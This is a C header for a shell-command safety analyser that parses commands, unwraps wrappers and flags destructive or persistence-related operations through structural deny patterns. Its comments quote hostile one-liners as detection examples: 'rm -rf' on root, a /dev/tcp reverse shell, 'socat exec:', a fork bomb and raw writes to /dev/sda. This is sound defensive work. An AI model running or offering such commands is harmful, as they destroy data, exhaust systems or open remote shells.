/* Shell command analysis: what programs a command string would run.
 *
 * A command string is parsed as a POSIX/bash shell would read it (shell.h),
 * then every simple command is turned into one or more views: the command as
 * written and each unwrapped form of it (sudo/doas/env/command/builtin/exec/
 * nohup/setsid/nice/ionice/chrt/taskset/timeout/stdbuf/time/xargs/parallel/
 * busybox/toybox/strace/ltrace/valgrind/gdb --args/unshare/nsenter with their
 * options peeled; eval and `sh|bash|zsh|dash|ksh -c BODY` parsed recursively
 * up to MOAT_CMD_MAX_DEPTH; find -exec/-execdir/-ok bodies).
 *
 * Values known before running are substituted: literal assignments earlier
 * in the same command ("a=/; rm -rf $a"), ${X:-default} defaults,
 * $(echo ...) and $(printf ...) output, sh -c positional parameters, xargs
 * and parallel fed by a literal, and the working directory after a cd to a
 * known directory. Each substitution gives a view of its own
 * (MOAT_VIEW_RESOLVED), so every check sees the values.
 *
 * The analysis also reports findings that do not depend on configuration:
 * the unrecoverable-operation floor ("hardline:*"), shell writes into startup,
 * persistence and credential files ("startup-write:*"), destructive commands
 * whose target is unknown before running ("dynamic-target:*"), a downloaded
 * file run later in the same command ("command:download-exec") and setuid
 * modes ("command:setuid"). It lists the path operands of the commands so
 * the policy can check them against the denied paths.
 *
 * Pure: no I/O. Linear in the input: no input makes it backtrack. */
#ifndef MOAT_CORE_CMD_H
#define MOAT_CORE_CMD_H

#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>

#include <moat/error.h>

#define MOAT_CMD_MAX_LEN (1u << 20)	/* 1 MiB of command text */
#define MOAT_CMD_MAX_DEPTH 8		/* nested sh -c / eval / substitutions */
#define MOAT_CMD_MAX_VIEWS 65536
/* values known before running (see cmd.c); past a limit a value is unknown */
#define MOAT_CMD_MAX_VALUES 8	     /* values one word, variable or directory may take */
#define MOAT_CMD_MAX_RESOLVED 16     /* combinations of values checked per command, then one per value */
#define MOAT_CMD_EVAL_DEPTH 4	     /* nested $(echo $(echo ..)) and ${X:-${Y}} evaluated */
#define MOAT_CMD_MAX_POS 32	     /* positional parameters bound by sh -c ($0 included) */
#define MOAT_CMD_MAX_VARS 128	     /* shell variables tracked */
#define MOAT_CMD_EVAL_BUDGET (1u << 20)  /* bytes of substituted values per analysis */
#define MOAT_CMD_STATE_BUDGET (4u << 20) /* bytes of variable tables copied per analysis */

/* view flags */
#define MOAT_VIEW_DYNAMIC 1u	  /* program cannot be known before running ($X, $(..) in command position) */
#define MOAT_VIEW_UNWRAPPED 2u	  /* produced by peeling a wrapper or parsing sh -c / eval */
#define MOAT_VIEW_SHELL_STDIN 4u  /* a shell (or interpreter) reading its script from stdin fed by a pipe, heredoc, herestring or <( ) */
#define MOAT_VIEW_DYNAMIC_ARGS 8u /* some arguments are unknown (xargs input, expansions) */
#define MOAT_VIEW_SUBST 16u	  /* runs inside $( ), backticks or <( ) */
#define MOAT_VIEW_RESOLVED 32u	  /* the view it was derived from with values known before running
				   * substituted (parent names that view) */
#define MOAT_VIEW_VALUES 64u	  /* unknown words here have their known values in RESOLVED views */

/* argv[argc] is NULL. A command made only of redirections ("> f") still has a
 * view (argc 0, prog and text "") so that its redirections belong to one. */
struct moat_cmdview {
	const char *const *argv; /* words after quote removal; expansions kept verbatim */
	size_t argc;
	const char *prog;	 /* basename of argv[0] ("/usr/bin/rm" -> "rm") */
	const char *text;	 /* prog and argv[1..] joined by single spaces, for command_rules */
	unsigned flags;
	int feeds_from;		 /* index of the view whose stdout reaches this view's stdin through a pipe, or -1 */
	int depth;
	/* additions (cmd.c) */
	int feeds_first; /* with feeds_from: views [feeds_first, feeds_from] make up the command
			  * feeding this one (a pipeline stage, a <( ) or the $( ) a shell -c
			  * body comes from); -1 when feeds_from is -1 */
	int parent;	 /* the view this one was unwrapped from, or -1 */
};

/* A file redirection of a command (here-documents and descriptor duplications
 * are not listed). */
#define MOAT_CMD_REDIR_WRITE 1u	  /* >, >>, >|, &>, &>>, <>, >&FILE */
#define MOAT_CMD_REDIR_READ 2u	  /* <, <> */
#define MOAT_CMD_REDIR_APPEND 4u  /* >>, &>> */
#define MOAT_CMD_REDIR_DYNAMIC 8u /* the target contains expansions */

struct moat_cmd_redir {
	const char *target; /* after quote removal, expansions verbatim */
	size_t view;	    /* the command it belongs to (for a compound command: its first view) */
	int fd;		    /* explicit descriptor or -1 */
	unsigned flags;
};

#define MOAT_FINDING_DENY 1
#define MOAT_FINDING_ASK 2

struct moat_cmd_finding {
	int verdict;		/* MOAT_FINDING_DENY or MOAT_FINDING_ASK */
	char rule[64];		/* stable id, e.g. "hardline:rm-root", "startup-write:~/.bashrc" */
	char reason[256];	/* human sentence */
	size_t view;		/* the view it is about */
	unsigned flags;		/* MOAT_FINDING_F_* */
};

/* finding flags: it is about the invocation's redirections or
 * environment, not its program and arguments, so a command rule that
 * allows the program does not lift it */
#define MOAT_FINDING_F_BESIDE 1u
/* it stands only where no sandbox runs the command (moat hook) */
#define MOAT_FINDING_F_UNSANDBOXED 2u

/* A word that names a file for some command: its operands (words that are
 * not options, and the values of --opt=value), and the targets of file
 * redirections; not the words of echo and printf, nor of views whose
 * program is unknown. */
#define MOAT_CMD_PATH_READ 1u  /* a redirection reading it */
#define MOAT_CMD_PATH_WRITE 2u /* a redirection writing it */
#define MOAT_CMD_PATH_GLOB 4u  /* an unquoted glob: it may name more than its text */
#define MOAT_CMD_PATH_TREE 16u /* the program reads the whole tree below it (tar c, cp -r) */
#define MOAT_CMD_PATH_PROC 8u  /* it goes through a working directory in /proc not known
				* before running (/proc/PID/cwd/x): no place to check */
#define MOAT_CMD_PATH_SPAN 64u /* a word with expansions whose values are not known, each
				* written as '*' (a name of any length, a leading dot
				* included): text is that pattern; what it may name */
#define MOAT_CMD_PATH_FOLLOW 256u /* with TREE: the links to directories met in it are
				   * followed (grep -R, zip -r, tar -h) */
#define MOAT_CMD_PATH_OUTSIDE 128u /* with TREE: read whole only where it lies outside the
				    * directory the command starts in (git add skips what
				    * .gitignore names) */
#define MOAT_CMD_PATH_UNKNOWN 32u /* where it leads cannot be known before running (a ~ whose
				   * $HOME the command set to an unknown value, a relative
				   * name below a directory not known): text as written */

struct moat_cmd_path {
	const char *text; /* as the command names it, values substituted */
	const char *abs;  /* absolute and lexically normalised (home, or a directory a cd
			   * moved to, applied); NULL: text is absolute, or relative to the
			   * directory the command starts in (opts->cwd), not normalised */
	size_t view;
	unsigned flags;
};

struct moat_cmd_analysis {
	struct moat_cmdview *views;
	size_t nviews;
	struct moat_cmd_finding *findings;
	size_t nfindings;
	bool dynamic;	/* some view has MOAT_VIEW_DYNAMIC or MOAT_VIEW_SHELL_STDIN with unknown input */
	void *priv;	/* arena owning all strings */
	/* additions (cmd.c) */
	struct moat_cmd_redir *redirs;
	size_t nredirs;
	int fork_bomb;	  /* a view in a function that calls itself through a pipe or in the
			   * background (":(){ :|:& };:"), or -1; set whatever opts->hardline */
	const char *home; /* opts->home without trailing slash, or NULL */
	unsigned char prog_first[32]; /* a bit per first byte of the views' programs */
	uint64_t prog_pairs;	      /* moat_cmd_pair_bit of every view's program */
	bool fed;		      /* some view has feeds_from >= 0 */
	struct moat_cmd_path *paths;
	size_t npaths;
};

/* A bit standing for the first two bytes of a program name (a quick "no
 * view runs a program starting so"): only names of two bytes or more. */
static inline uint64_t moat_cmd_pair_bit(const char *prog)
{
	unsigned h = ((unsigned char)prog[0] * 7u) ^ (prog[0] ? (unsigned char)prog[1] : 0u);

	return (uint64_t)1 << (h & 63u);
}

struct moat_cmd_opts {
	const char *home;	/* home directory for ~ and $HOME, may be NULL */
	bool hardline;		/* check the unrecoverable-operation floor */
	const char *cwd;	/* absolute working directory the command starts in, may be NULL */
	bool normalized;	/* home and cwd are normalised absolute paths that outlive the
				 * analysis: they are used as they are, not copied */
	size_t home_len, cwd_len; /* with normalized: strlen of home and cwd (0: not given) */
};

/* Parse and analyse. Unparseable input (unterminated quote, unbalanced
 * parenthesis, input over MOAT_CMD_MAX_LEN, NUL bytes) returns -EINVAL with
 * err describing where: callers must treat that as DENY. */
int moat_cmd_analyze(const char *src, size_t len, const struct moat_cmd_opts *opts,
		     struct moat_cmd_analysis **ret, struct moat_error *err);
struct moat_cmd_analysis *moat_cmd_analysis_free(struct moat_cmd_analysis *a);

/* The name of the startup, persistence or credential file an absolute,
 * normalised path is ("~/.bashrc", "~/.ssh/config", ".git/hooks",
 * "/etc/profile.d/x.sh"), written to out; false when it is none. Writes to
 * these ask, from the shell or a file tool alike. */
bool moat_cmd_startup_name(const char *home, const char *path, char *out, size_t outsz);
/* Does this git config text set anything that makes git run a program or
 * read another config (core.fsmonitor, core.hooksPath, core.sshCommand,
 * core.pager, core.editor, an alias starting with '!', include.path,
 * filter/diff/merge drivers, credential helpers...)? Keys outside the
 * ones git writes into a submodule's config are treated as such too.
 * why gets "section.key". Pure. */
bool moat_gitconfig_runs_code(const char *text, size_t len, char *why, size_t whysz);

/* The value core.worktree is given in this git config text (the last one;
 * quotes removed) into out. False when none is, or it does not fit. Pure. */
bool moat_gitconfig_worktree(const char *text, size_t len, char *out, size_t outsz);

/* True for the names of POSIX-family shells (sh, bash, zsh, dash, ksh, ash, mksh, ...). */
bool moat_cmd_is_shell(const char *prog);

/* Denied-command patterns, matched by structure, not substring.
 * The pattern is itself parsed as a shell command:
 *  - "prog a b": a view whose prog matches (glob on the basename) and whose
 *    arguments include each of a, b in order; short-flag clusters compare as
 *    sets with long forms normalised ("-rf" matches "-r -f", "-fr",
 *    "--recursive --force", "-R"); a word ending in '=' matches as a prefix
 *    ("dd if=").
 *  - "a | b": a view matching a feeds (directly or through more pipes) a
 *    view matching b; sh/bash/zsh/dash/ksh on the right match any shell.
 *    A word ending in ':' matches as a case-insensitive prefix ("socat
 *    exec:" matches "EXEC:'sh -i'").
 *  - "> /dev/sda": a redirection writing to that target.
 *  - a single word "/dev/tcp" (or another path under /dev/): any file
 *    redirection to it or below it ("bash -i >& /dev/tcp/h/p 0>&1").
 *  - the fork-bomb shape ":(){ :|:& };:" matches any function that pipes
 *    into itself in the background. */
struct moat_cmdpat;
int moat_cmdpat_compile(const char *pattern, struct moat_cmdpat **ret, struct moat_error *err);
/* Returns true when the pattern matches the analysis; *ret_view (may be NULL) is the view. */
bool moat_cmdpat_match(const struct moat_cmdpat *p, const struct moat_cmd_analysis *a,
		       size_t *ret_view);
const char *moat_cmdpat_source(const struct moat_cmdpat *p);
/* What an analysis needs for the pattern to match at all, so callers can
 * skip it cheaply: a program starting with this byte (0-255, see
 * moat_cmd_analysis.prog_first), a pipe (MOAT_CMDPAT_NEEDS_PIPE), a
 * redirection (..._REDIR), a fork bomb (..._FORK), or nothing (..._ANY). */
#define MOAT_CMDPAT_NEEDS_PIPE 256
#define MOAT_CMDPAT_NEEDS_REDIR 257
#define MOAT_CMDPAT_NEEDS_FORK 258
#define MOAT_CMDPAT_NEEDS_ANY 259
int moat_cmdpat_needs(const struct moat_cmdpat *p);
/* Finer: the moat_cmd_pair_bit a view's program must have for the pattern to
 * match (see moat_cmd_analysis.prog_pairs), or 0 when it needs none. */
uint64_t moat_cmdpat_pair(const struct moat_cmdpat *p);
struct moat_cmdpat *moat_cmdpat_free(struct moat_cmdpat *p);

/* Internal, shared by cmd.c and cmdpat.c: lexical normalisation of an
 * absolute path in place (repeated slashes, ".", ".." clamped at the root). */
void moat_cmd_norm_path(char *p);

#endif
